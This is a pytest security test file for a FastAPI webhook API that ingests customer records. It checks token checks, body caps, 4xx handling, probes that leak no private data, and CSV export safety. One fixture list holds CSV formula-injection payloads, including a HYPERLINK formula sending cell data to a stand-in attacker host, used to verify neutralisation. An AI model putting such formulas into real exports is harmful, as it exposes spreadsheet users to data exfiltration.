"""The webhook API's trust boundary (docs/security.md, "API"): job reads need the token by default, the
token is checked before any body byte is read, JSON bodies are capped, malformed input is a 4xx (never a
500), CSV exports cannot run formulas, and the open probes say nothing personal or about the database.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from support.api import AUTH, TOKEN, RecordingLauncher, multipart, wait_ready

from clientes_ingest import jobs
from clientes_ingest.db import Database, ingest_rejects
from deployments import api
from deployments.api import ApiConfig, create_app

MAX_KEY = 2**63 - 1


def counted(pieces: int, size: int, pulled: list[int], first: bytes = b"") -> Iterator[bytes]:
    """A streamed body of ``pieces`` pieces of ``size`` bytes that records each piece the server pulls."""
    if first:
        pulled.append(len(first))
        yield first
    for _ in range(pieces):
        pulled.append(size)
        yield b" " * size


# ------------------------------------------------------------------------------- reads need the token


def test_every_jobs_endpoint_needs_the_token_by_default(client: TestClient) -> None:
    paths = ("/jobs/1", "/jobs/1/rejects", "/jobs/1/rejects?format=csv", "/jobs/1/rejects?after=5&limit=3")
    assert {p for p in client.get("/openapi.json").json()["paths"] if p.startswith("/jobs")} == \
        {"/jobs/{job_id}", "/jobs/{job_id}/rejects"}
    for path in paths:
        for headers in ({}, {"Authorization": "Bearer nope"}, {"Authorization": f"Basic {TOKEN}"}):
            response = client.get(path, headers=headers)
            assert response.status_code == 401, (path, headers)
            assert response.headers["www-authenticate"] == "Bearer"
        assert client.get(path, headers=AUTH).status_code == 404  # the token opens it: no such job
    # Documentation stays open; it holds no data.
    assert client.get("/docs").status_code == 200 and client.get("/openapi.json").status_code == 200


def test_reads_without_a_configured_token_answer_503(api_env: dict[str, Any], monkeypatch: pytest.MonkeyPatch,
                                                     recorder: RecordingLauncher) -> None:
    monkeypatch.delenv("CLIENTES_API_TOKEN")
    with TestClient(create_app(launcher=recorder)) as client:
        response = client.get("/jobs/1")
    assert response.status_code == 503 and response.json()["error"] == "the API token is not configured"


def test_open_reads_are_an_explicit_opt_out_for_a_loopback_api_only(
    api_env: dict[str, Any], monkeypatch: pytest.MonkeyPatch, recorder: RecordingLauncher
) -> None:
    monkeypatch.setenv("CLIENTES_API_AUTH_READS", "false")
    with TestClient(create_app(launcher=recorder)) as client:
        assert client.get("/jobs/1").status_code == 404
        assert client.post("/runs", json={"source": "s3://clientes-ingest/incoming/a.dat"}).status_code == 401

    import uvicorn

    served: list[str] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: served.append(kwargs["host"]))
    monkeypatch.setattr(api, "configure_logging", lambda *args: None)
    for host in ("0.0.0.0", "10.1.2.3", "::"):  # noqa: S104 - what is refused
        with pytest.raises(SystemExit) as refused:
            api.main(["--host", host])
        assert refused.value.code == 2
    assert api.main(["--host", "127.0.0.1"]) == 0 and served == ["127.0.0.1"]


# ------------------------------------------------------------------------------ token before the body


def api_routes(routes: list[Any]) -> Iterator[APIRoute]:
    """Every endpoint of the app, inside included routers too."""
    for route in routes:
        if isinstance(route, APIRoute):
            yield route
        inner = getattr(route, "original_router", None)  # FastAPI >= 0.150 keeps included routers whole
        if inner is not None:
            yield from api_routes(inner.routes)


def test_no_endpoint_lets_fastapi_read_a_body_before_the_token_check(client: TestClient) -> None:
    app = client.app
    ctx = app.state.ctx  # type: ignore[attr-defined]
    posts = [r for r in api_routes(app.routes) if r.methods & {"POST", "PUT", "PATCH", "DELETE"}]
    assert {r.path for r in posts} == {"/process", "/runs"}
    for route in posts:
        # A declared body parameter is read and parsed by FastAPI before any dependency runs.
        assert route.body_field is None, route.path
        assert ctx.require_token in [d.call for d in route.dependant.dependencies], route.path


@pytest.mark.parametrize("path,content_type", [("/runs", "application/json"),
                                               ("/process", "multipart/form-data; boundary=b")])
def test_an_unauthenticated_large_body_is_refused_unread(
    client: TestClient, recorder: RecordingLauncher, path: str, content_type: str
) -> None:
    pulled: list[int] = []
    body = counted(200, 1024**2, pulled, first=b'{"source": "')  # 200 MiB if it were all read
    response = client.post(path, content=body, headers={"Content-Type": content_type})
    assert response.status_code == 401
    assert sum(pulled) <= 1024**2 + 64  # the test client primes at most one piece; the app asked for none
    assert recorder.calls == []


def test_json_bodies_are_capped_with_413(api_env: dict[str, Any], recorder: RecordingLauncher) -> None:
    with TestClient(create_app(config=ApiConfig(max_json_bytes=1024), launcher=recorder)) as client:
        declared: list[int] = []
        response = client.post("/runs", content=counted(10, 1000, declared), headers={
            **AUTH, "Content-Type": "application/json", "Content-Length": "10000"})
        assert response.status_code == 413
        assert response.json()["error"] == "JSON body larger than the limit of 1024 bytes"
        assert sum(declared) <= 1000  # refused on its Content-Length

        # A chunked body (no Content-Length) cut off at the cap is tested against uvicorn in test_api_slow_clients
        # (this test client reads a whole body at the app's first receive).
        assert client.post("/runs", content=b'{"source": "' + b"a" * 2000 + b'"}',
                           headers={**AUTH, "Content-Type": "application/json"}).status_code == 413

        source = "s3://clientes-ingest/incoming/" + "a" * 2000 + ".dat"
        assert client.post("/runs", json={"source": source}, headers=AUTH).status_code == 413
        metrics = client.get("/metrics").text
    assert 'clientes_api_errors_total{endpoint="/runs",status="413"} 3.0' in metrics
    assert recorder.calls == []


def test_json_bodies_that_are_not_json_or_not_a_run_request_are_4xx(client: TestClient) -> None:
    cases = [(b'{"source": ', "application/json", 422), (b'{"other": 1}', "application/json", 422),
             (b"[1, 2]", "application/json", 422), (b'{"source": 5}', "application/json", 422),
             (b"source=s3://x/y", "application/x-www-form-urlencoded", 415), (b'{"source": "x"}', "text/plain", 415)]
    for content, content_type, status in cases:
        response = client.post("/runs", content=content, headers={**AUTH, "Content-Type": content_type})
        assert response.status_code == status, (content, response.text)
        assert content.decode() not in response.text  # the input is not echoed
    missing = client.post("/runs", json={}, headers=AUTH).json()
    assert missing["error"] == "invalid request" and missing["detail"][0]["loc"] == ["body", "source"]
    schema = client.get("/openapi.json").json()["paths"]["/runs"]["post"]["requestBody"]
    assert schema["required"] and schema["content"]["application/json"]["schema"]["required"] == ["source"]


# ----------------------------------------------------------------------------------- 4xx, never 500


@pytest.mark.parametrize("body", [
    b"garbage",
    b"--b\r\nbad header line\r\n\r\nx\r\n--b--\r\n",
    b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.dat"\r\n\r\nx\r\n--bXY',
    b"--b" + b"\x00" * 1000,
    b"\r\n\r\n--b\r\n",
])
def test_malformed_multipart_is_400(client: TestClient, recorder: RecordingLauncher, body: bytes) -> None:
    response = client.post("/process", content=body,
                           headers={**AUTH, "Content-Type": "multipart/form-data; boundary=b"})
    assert response.status_code == 400, response.text
    assert response.json()["error"] in ("malformed multipart body",
                                        "the multipart body ended early (truncated upload)")
    assert recorder.calls == []


def test_huge_job_ids_cursors_and_offsets_are_4xx(client: TestClient, api_env: dict[str, Any]) -> None:
    for path in (f"/jobs/{MAX_KEY + 1}", "/jobs/99999999999999999999", f"/jobs/{MAX_KEY + 1}/rejects",
                 "/jobs/1/rejects?offset=99999999999999999999", f"/jobs/1/rejects?after={MAX_KEY + 1}",
                 "/jobs/0", "/jobs/-1", "/jobs/1e3", f"/jobs/{'9' * 5000}"):
        response = client.get(path, headers=AUTH)
        assert response.status_code in (404, 422), (path, response.text)
        assert response.json()["error"] == "invalid request"
    db: Database = api_env["db"]
    db.ensure_schema()
    job_id = jobs.create_pending_job(db.engine, "file:///tmp/x.dat", "x.dat")
    for params in ({"offset": MAX_KEY}, {"after": MAX_KEY}, {"offset": MAX_KEY, "format": "csv"}):
        response = client.get(f"/jobs/{job_id}/rejects", params=params, headers=AUTH)
        assert response.status_code == 200, (params, response.text)
    assert client.get(f"/jobs/{MAX_KEY}", headers=AUTH).status_code == 404


# ------------------------------------------------------------------------------------ CSV injection


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")|Paz|1|Activo|1/2/2020|true|false',
            "+1+1|x", "-2+3|x", "@SUM(A1:A2)|x", "\tTab|x", "\rCR|x", "plain|=not-at-start"]


def test_the_csv_export_neutralises_formulas(client: TestClient, api_env: dict[str, Any]) -> None:
    db: Database = api_env["db"]
    db.ensure_schema()
    job_id = jobs.create_pending_job(db.engine, "file:///tmp/x.dat", "x.dat")
    with db.engine.begin() as conn:
        conn.execute(ingest_rejects.insert(), [
            {"job_id": job_id, "chunk_no": 0, "line_number": n, "reason": "field_count", "raw_line": raw,
             "raw_length": len(raw)} for n, raw in enumerate(FORMULAS, 1)])
    download = client.get(f"/jobs/{job_id}/rejects", params={"format": "csv"}, headers=AUTH)
    table = list(csv.reader(io.StringIO(download.content.decode("utf-8"), newline="")))[1:]
    cells = [row[2] for row in table]
    assert cells[:-1] == ["'" + raw for raw in FORMULAS[:-1]]
    assert cells[-1] == FORMULAS[-1]  # only the first character matters
    assert [int(row[3]) for row in table] == [len(raw) for raw in FORMULAS]  # lengths of the real lines
    page = client.get(f"/jobs/{job_id}/rejects", headers=AUTH).json()  # JSON keeps the data as it was
    assert [i["rawLine"] for i in page["items"]] == FORMULAS


# ------------------------------------------------------------------------------------- open probes


PERSONAL = ("María", "Gómez", "45678901", "Zuñiga", "30111222")


def test_metrics_carry_no_personal_data(client: TestClient, api_env: dict[str, Any]) -> None:
    lines = "María|Gómez|45678901|Activo|11/13/2021|true|false\nAna|Zuñiga|30111222|Activo|99/99/9999|true|\n"
    accepted = client.post("/process", files=multipart("Gómez_45678901.dat", lines.encode()), headers=AUTH)
    assert accepted.status_code == 202, accepted.text
    job_id = accepted.json()["jobId"]
    client.get(f"/jobs/{job_id}/rejects", headers=AUTH)
    for path in ("/jobs/45678901", "/jobs/María", "/jobs/45678901/rejects", "/Gómez",
                 "/jobs/99999/rejects?reason=Gómez"):
        assert client.get(path, headers=AUTH).status_code in (404, 422)
    client.post("/runs", json={"source": "s3://clientes-ingest/incoming/Gómez_45678901.dat"})  # 401
    client.post("/runs", json={"source": "s3://other/María.dat"}, headers=AUTH)  # 422
    metrics = client.get("/metrics").content.decode("utf-8")
    assert "clientes_api_uploads_total 1.0" in metrics and "clientes_api_errors_total" in metrics
    for value in (*PERSONAL, "Gomez", str(job_id) + "/"):
        assert value not in metrics, value
    endpoints = set(re.findall(r'endpoint="([^"]*)"', metrics))
    assert endpoints <= {"/process", "/runs", "/jobs/{job_id}", "/jobs/{job_id}/rejects", "unmatched"}, endpoints


def test_a_failing_ready_does_not_reveal_the_database_user_or_host(
    api_env: dict[str, Any], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("CLIENTES_DB_URL", "postgresql+psycopg://clientes_app_user:pw-secret-91@127.0.0.1:1/clientes")
    with TestClient(create_app(launcher=RecordingLauncher())) as client:
        response = wait_ready(client)
    assert response.status_code == 503
    body = response.json()
    assert body["error"].startswith("not ready: database unreachable"), body  # (prefect too if it is slow here)
    assert body["detail"]["database"] == "unreachable (see the API log)"
    for private in ("clientes_app_user", "127.0.0.1", ":1", "pw-secret-91", "clientes", "postgresql"):
        assert private not in response.text, private
    # The operator still finds the cause in the API's log (password masked).
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "readiness: database unreachable" in logged and "127.0.0.1:1" in logged
    assert "pw-secret-91" not in logged


def test_rejects_hold_personal_data_that_only_the_token_reads(
    client: TestClient, api_env: dict[str, Any], tmp_path: Path
) -> None:
    valid = "".join(f"Luis|Paz|{20_000_000 + i}|Activo|1/2/2020|true|false\n" for i in range(40))
    lines = (valid + "Ana|Zuñiga|30111222|Activo|99/99/9999|true|\n").encode()  # under the reject-ratio guard
    accepted = client.post("/process", files=multipart("CLIENTES_IN_0425.dat", lines), headers=AUTH).json()
    db: Database = api_env["db"]
    from support.loading import load_file

    path = tmp_path / "CLIENTES_IN_0425.dat"
    path.write_bytes(lines)
    loaded = load_file(db, path, tmp_path / "direct")
    for job_id in (accepted["jobId"], loaded.job_id):
        for path_ in (f"/jobs/{job_id}", f"/jobs/{job_id}/rejects", f"/jobs/{job_id}/rejects?format=csv"):
            denied = client.get(path_)
            assert denied.status_code == 401 and "Zuñiga" not in denied.text and "30111222" not in denied.text
    assert "30111222" in client.get(f"/jobs/{loaded.job_id}/rejects", headers=AUTH).text


def test_runs_accept_only_allowed_buckets(
    api_env: dict[str, Any], monkeypatch: pytest.MonkeyPatch, recorder: RecordingLauncher, aws_s3_client: Any,
    aws_bucket: str
) -> None:
    partner = f"{aws_bucket}-partner"
    aws_s3_client.create_bucket(Bucket=partner)
    aws_s3_client.put_object(Bucket=partner, Key="drop/CLIENTES_IN_0425.dat", Body=b"a|b\n")
    source = f"s3://{partner}/drop/CLIENTES_IN_0425.dat"
    with TestClient(create_app(launcher=recorder)) as client:
        refused = client.post("/runs", json={"source": source}, headers=AUTH)
    assert refused.status_code == 422 and refused.json()["error"] == f"{source} is not in an allowed bucket"
    assert recorder.calls == []
    monkeypatch.setenv("CLIENTES_ALLOWED_BUCKETS", f"other,{partner}")
    with TestClient(create_app(launcher=recorder)) as client:
        accepted = client.post("/runs", json={"source": source}, headers=AUTH)
    assert accepted.status_code == 202, accepted.text
    assert [c["source"] for c in recorder.calls] == [source]


def test_no_deployment_opens_the_reads(tmp_path: Path) -> None:
    import yaml

    from clientes_ingest.devtools.devstack import DevStack

    repo = Path(__file__).resolve().parents[2]
    texts = [p.read_text(encoding="utf-8") for p in (repo / "docker-compose.yml", repo / "prefect.yaml",
                                                      *sorted((repo / "k8s").glob("*.yaml")))]
    assert all("AUTH_READS" not in text for text in texts)
    assert yaml.safe_load(texts[0])["x-clientes-env"]["CLIENTES_API_TOKEN"].startswith("${CLIENTES_API_TOKEN:?")
    stack = DevStack(tmp_path / "state", project_dir=repo, base_env={"PATH": "/usr/bin:/bin"},
                     prefect_port=0, api_port=0, trigger_port=0, moto_port=0)
    try:
        stack.prepare()
        assert "CLIENTES_API_AUTH_READS" not in stack.env and len(stack.env["CLIENTES_API_TOKEN"]) >= 24
    finally:
        stack.stop()
